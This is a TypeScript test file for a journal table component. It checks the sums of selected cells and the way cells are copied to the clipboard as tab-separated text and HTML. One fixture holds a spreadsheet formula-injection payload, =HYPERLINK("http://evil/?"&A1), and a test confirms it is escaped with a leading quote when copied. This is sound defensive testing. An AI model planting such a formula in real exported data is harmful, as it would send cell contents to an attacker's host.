import { describe, expect, it } from 'vitest';
import { clipboardOf } from '@/components/journal/table/selected-cells';
import type { SelectedRow } from '@/components/journal/table/selected-strips';
import { figuresOf } from '@/components/journal/table/selected-sums';
import type { JournalRow } from '@/lib/contract/journal/journal';
import { journalField } from '@/lib/domain/journal/field-index';

const fields = ['Description', 'PostingDate', 'Quantity', 'Amount', 'ItemNo'].flatMap(
  (name) => journalField(name) ?? [],
);
const lines: JournalRow[] = Array.from({ length: 20 }, (_, at) => ({
  EntryType: 'Purchase',
  Description: at === 1 ? '=HYPERLINK("http://evil/?"&A1)' : at === 2 ? 'two\tcells\nor lines' : `line ${at}`,
  PostingDate: at === 3 ? '0001-01-01' : '2026-11-15',
  Quantity: at === 4 ? 0.1234567 : at,
  Amount: at === 5 ? 1_005.5 : 0.1,
}));

/** The cells of these rows in the columns from `left` to `right`. */
function band(rows: readonly JournalRow[], left: number, right: number, level: number | null = null) {
  const cells = fields.slice(left, right + 1).map((field, at) => ({ at: left + at, field }));
  return rows.map((row): SelectedRow => ({ row, level, cells }));
}
const bandOf = (top: number, bottom: number, left: number, right: number) =>
  band(lines.slice(top, bottom + 1), left, right);

describe('selected cells', () => {
  it('are added up to the last decimal, and unset ones are none', () => {
    const { filled, count, measures } = figuresOf(bandOf(4, 6, 0, 3));
    expect([filled, count]).toEqual([12, 6]);
    expect(measures[0]?.least.value).toBe(0.1234567);
    expect(measures[0]?.most.value).toBe(6);
    expect(figuresOf(bandOf(3, 3, 1, 1)).filled).toBe(0);
    expect(figuresOf(bandOf(4, 5, 2, 2)).measures).toMatchObject([{ sum: '5.1234567', hasAmounts: false }]);
  });

  it('are not added up over unlike columns, but over the columns across of one sum', () => {
    const sumsOf = (rows: readonly SelectedRow[]) =>
      figuresOf(rows).measures.map(({ label, sum }) => [label, sum]);
    expect(sumsOf(bandOf(0, 2, 0, 3))).toEqual([
      ['Quantity', '3'],
      ['Amount', '0.3'],
    ]);
    const amount = journalField('Amount');
    const cells = ['EAST', 'WEST'].flatMap((over, at) =>
      amount ? [{ at, over, field: { ...amount, name: `Amount.net@${over}` } }] : [],
    );
    const row = { 'Amount.net@EAST': 1.5, 'Amount.net@WEST': 2, Amount: 3.5, EntryType: 'Output' };
    expect(sumsOf([{ row, level: null, cells }])).toEqual([['Amount across', '3.5']]);
    const whole = amount ? [{ at: 2, field: amount }] : [];
    expect(sumsOf([{ row, level: null, cells: [...cells, ...whole] }])).toEqual([
      ['Amount across', '3.5'],
      ['Amount', '3.5'],
    ]);
  });

  it('count by their direction, and have no sum over several units', () => {
    const rows: JournalRow[] = [
      { EntryType: 'Purchase', UnitofMeasureCode: 'PCS', Quantity: 2, Amount: 1 },
      { EntryType: 'Sale', UnitofMeasureCode: 'pcs', Quantity: 5, Amount: 0.3 },
      { EntryType: 'Sale', ValueEntryType: 'Revaluation', UnitofMeasureCode: 'PCS', Quantity: 7, Amount: 4 },
      { EntryType: 'Transfer', UnitofMeasureCode: 'PCS', Quantity: 9, Amount: 8 },
    ];
    const { measures, left } = figuresOf(band(rows, 2, 3));
    expect(measures).toMatchObject([
      { sum: '-3', flows: { in: '2', out: '5' } },
      { sum: '-3.3', flows: { in: '1', out: '4.3' } },
    ]);
    expect(left).toEqual({ uncounted: [], moved: 1, revalued: 1 });
    const boxed = { ...rows[0], UnitofMeasureCode: 'BOX' };
    expect(figuresOf(band([...rows, boxed], 2, 2)).measures).toMatchObject([{ sum: null }]);
  });

  it('are added up once where sums of them are selected too', () => {
    const summed = (Amount: number, level: number) => band([{ EntryType: 'Purchase', Amount }], 3, 3, level);
    const [total, part] = [summed(9, 0), summed(5, 1)];
    expect(figuresOf([...bandOf(0, 1, 3, 3), ...part, ...total]).measures[0]?.sum).toBe('0.2');
    expect(figuresOf([...part, ...total]).measures[0]?.sum).toBe('5');
    expect(figuresOf(total).measures[0]?.sum).toBe('9');
  });

  it('are copied with all digits and no thousands, as neither formulas nor further cells', () => {
    expect(clipboardOf(bandOf(4, 5, 2, 3), false).text).toBe('0.1234567\t0.1\n5\t1005.5');
    expect(clipboardOf(bandOf(2, 3, 1, 1), false).text).toBe('11/15/2026\n');
    const { text } = clipboardOf(bandOf(1, 2, 0, 0), false);
    expect(text.split('\n')).toEqual(['\'=HYPERLINK("http://evil/?"&A1)', 'two cells or lines']);
  });

  it('keep quotes, zeros and sums of many digits as they are', () => {
    const many = [
      { ItemNo: '00010', Amount: '-12345678901234567.125' },
      { ItemNo: '-100', Amount: 1 },
      { ItemNo: '"A" & <B>', Amount: 1_234.5 },
      { ItemNo: '', Amount: '' },
    ];
    const copied = clipboardOf(band(many, 3, 4), false);
    expect(copied.text).toBe('-12345678901234567.125\t00010\n1\t\'-100\n1234.5\t"""A"" & <B>"\n\t');
    const table = /<table>(.*)<\/table>/s.exec(copied.html)?.[1] ?? '';
    const cells = [...table.matchAll(/<td([^>]*)>([^<]*)<\/td>/g)].map(([, how = '', text]) => ({
      isText: how.includes(' x:str '),
      text,
    }));
    expect(cells).toEqual([
      { isText: false, text: '-12345678901234567.125' },
      { isText: true, text: '00010' },
      { isText: false, text: '1' },
      { isText: true, text: '-100' },
      { isText: false, text: '1234.5' },
      { isText: true, text: '"A" &amp; &lt;B>' },
      { isText: false, text: '' },
      { isText: true, text: '' },
    ]);
  });

  it('stand below their own heads, also where ranges have different columns', () => {
    const { text } = clipboardOf([...bandOf(0, 1, 2, 2), ...bandOf(5, 6, 3, 3)], true);
    expect(text).toBe('Quantity\tAmount\n0\t\n1\t\n\t1005.5\n\t0.1');
  });
});
